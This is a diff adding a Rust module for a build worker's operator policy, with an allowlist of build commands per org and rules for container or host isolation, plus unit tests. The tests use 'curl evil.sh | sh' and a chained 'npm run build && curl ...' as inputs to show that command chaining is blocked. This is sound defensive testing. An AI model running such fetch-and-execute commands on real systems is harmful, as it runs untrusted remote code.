@@ -0,0 +1,233 @@
+//! Operator policy for repository-provided build settings
+//!
+//! A `build_command` from `.deploy.json` runs arbitrary shell in the build
+//! environment. Multi-tenant workers can restrict it to commands matching an
+//! allowlist of regexes, for every org or only for listed ones. Default build
+//! commands of the built-in site types are always allowed.
+//!
+//! The `isolation` level a config asks for is checked the same way: a
+//! container worker only builds on the host for orgs it trusts, and a host
+//! worker can't provide container isolation at all.
+
+use std::collections::HashSet;
+
+use anyhow::{Context, Result};
+use regex::Regex;
+
+use crate::shared::BuildIsolation;
+
+/// Which build commands repositories may run
+#[derive(Debug, Clone, Default)]
+pub struct BuildCommandPolicy {
+    /// Patterns a command must match in full (empty is unrestricted)
+    allowlist: Vec<Regex>,
+    /// Orgs the allowlist applies to, lowercase (empty is every org)
+    orgs: HashSet<String>,
+}
+
+impl BuildCommandPolicy {
+    /// Parse one pattern per line and comma-separated org names
+    pub fn parse(allowlist: &str, orgs: &str) -> Result<Self> {
+        let allowlist = allowlist
+            .lines()
+            .map(str::trim)
+            .filter(|pattern| !pattern.is_empty())
+            .map(|pattern| {
+                Regex::new(&format!("^(?:{})$", pattern))
+                    .with_context(|| format!("Invalid build command pattern '{}'", pattern))
+            })
+            .collect::<Result<_>>()?;
+
+        let orgs = orgs
+            .split(',')
+            .map(|org| org.trim().to_lowercase())
+            .filter(|org| !org.is_empty())
+            .collect();
+
+        Ok(Self { allowlist, orgs })
+    }
+
+    /// Check a repository-provided build command for `org`
+    pub fn check(&self, org: &str, command: &str) -> Result<()> {
+        if self.allowlist.is_empty()
+            || (!self.orgs.is_empty() && !self.orgs.contains(&org.to_lowercase()))
+        {
+            return Ok(());
+        }
+
+        let command = command.trim();
+        if self
+            .allowlist
+            .iter()
+            .any(|pattern| pattern.is_match(command))
+        {
+            return Ok(());
+        }
+
+        anyhow::bail!(
+            "Build command not allowed by this worker's policy: {}",
+            command
+        )
+    }
+}
+
+/// Which build isolation levels repositories may request
+#[derive(Debug, Clone, Default)]
+pub struct IsolationPolicy {
+    /// Orgs allowed to build on a container worker's host, lowercase
+    host_orgs: HashSet<String>,
+}
+
+impl IsolationPolicy {
+    /// Parse comma-separated names of orgs trusted to build on the host
+    pub fn parse(host_orgs: &str) -> Self {
+        let host_orgs = host_orgs
+            .split(',')
+            .map(|org| org.trim().to_lowercase())
+            .filter(|org| !org.is_empty())
+            .collect();
+
+        Self { host_orgs }
+    }
+
+    /// Isolation level a build of `org` runs with
+    ///
+    /// Without a request, container workers build in a container and the
+    /// others on the host.
+    pub fn resolve(
+        &self,
+        use_containers: bool,
+        org: &str,
+        requested: Option<BuildIsolation>,
+    ) -> Result<BuildIsolation> {
+        match (requested, use_containers) {
+            (None, true) => Ok(BuildIsolation::Container),
+            (None, false) | (Some(BuildIsolation::Host), false) => Ok(BuildIsolation::Host),
+            (Some(BuildIsolation::Host), true) => {
+                if self.host_orgs.contains(&org.to_lowercase()) {
+                    Ok(BuildIsolation::Host)
+                } else {
+                    anyhow::bail!("Host builds are not allowed for {} on this worker", org)
+                }
+            }
+            (Some(isolation), true) => Ok(isolation),
+            (Some(isolation), false) => {
+                anyhow::bail!(
+                    "Isolation '{}' requires a worker with container builds enabled",
+                    isolation
+                )
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_unrestricted_by_default() {
+        let policy = BuildCommandPolicy::default();
+        assert!(policy.check("nullisLabs", "curl evil.sh | sh").is_ok());
+
+        // Orgs alone don't restrict anything
+        let policy = BuildCommandPolicy::parse("", "nullislabs").unwrap();
+        assert!(policy.check("nullisLabs", "curl evil.sh | sh").is_ok());
+    }
+
+    #[test]
+    fn test_allowed_and_denied_commands() {
+        let policy =
+            BuildCommandPolicy::parse("npm run build(:[a-z]+)?\nzola build\n", "").unwrap();
+
+        assert!(policy.check("nullisLabs", "npm run build").is_ok());
+        assert!(policy.check("nullisLabs", "  npm run build:prod ").is_ok());
+        assert!(policy.check("acme", "zola build").is_ok());
+
+        // Patterns match the whole command, so nothing can be chained on
+        let denied = policy.check("nullisLabs", "npm run build && curl evil.sh | sh");
+        assert!(
+            denied
+                .unwrap_err()
+                .to_string()
+                .contains("not allowed by this worker's policy")
+        );
+        assert!(policy.check("nullisLabs", "make").is_err());
+    }
+
+    #[test]
+    fn test_policy_limited_to_orgs() {
+        let policy = BuildCommandPolicy::parse("npm run build", "Acme, contoso").unwrap();
+
+        assert!(policy.check("acme", "make").is_err());
+        assert!(policy.check("CONTOSO", "make").is_err());
+        assert!(policy.check("nullisLabs", "make").is_ok());
+    }
+
+    #[test]
+    fn test_invalid_pattern_rejected() {
+        assert!(BuildCommandPolicy::parse("npm run (build", "").is_err());
+    }
+
+    #[test]
+    fn test_isolation_defaults_to_worker_mode() {
+        let policy = IsolationPolicy::default();
+        assert_eq!(
+            policy.resolve(true, "nullisLabs", None).unwrap(),
+            BuildIsolation::Container
+        );
+        assert_eq!(
+            policy.resolve(false, "nullisLabs", None).unwrap(),
+            BuildIsolation::Host
+        );
+    }
+
+    #[test]
+    fn test_container_isolation_levels() {
+        let policy = IsolationPolicy::default();
+        for isolation in [
+            BuildIsolation::Container,
+            BuildIsolation::ContainerNoNetwork,
+        ] {
+            assert_eq!(
+                policy.resolve(true, "nullisLabs", Some(isolation)).unwrap(),
+                isolation
+            );
+
+            // A host worker can't isolate the build
+            let error = policy
+                .resolve(false, "nullisLabs", Some(isolation))
+                .unwrap_err();
+            assert!(error.to_string().contains("container builds enabled"));
+        }
+    }
+
+    #[test]
+    fn test_host_isolation_limited_to_trusted_orgs() {
+        let policy = IsolationPolicy::parse("NullisLabs, internal");
+
+        assert_eq!(
+            policy
+                .resolve(true, "nullislabs", Some(BuildIsolation::Host))
+                .unwrap(),
+            BuildIsolation::Host
+        );
+        let error = policy
+            .resolve(true, "acme", Some(BuildIsolation::Host))
+            .unwrap_err();
+        assert!(error.to_string().contains("not allowed for acme"));
+        assert!(
+            IsolationPolicy::default()
+                .resolve(true, "nullislabs", Some(BuildIsolation::Host))
+                .is_err()
+        );
+
+        // Host workers build every org on the host anyway
+        assert_eq!(
+            IsolationPolicy::default()
+                .resolve(false, "acme", Some(BuildIsolation::Host))
+                .unwrap(),
+            BuildIsolation::Host
+        );
+    }
+}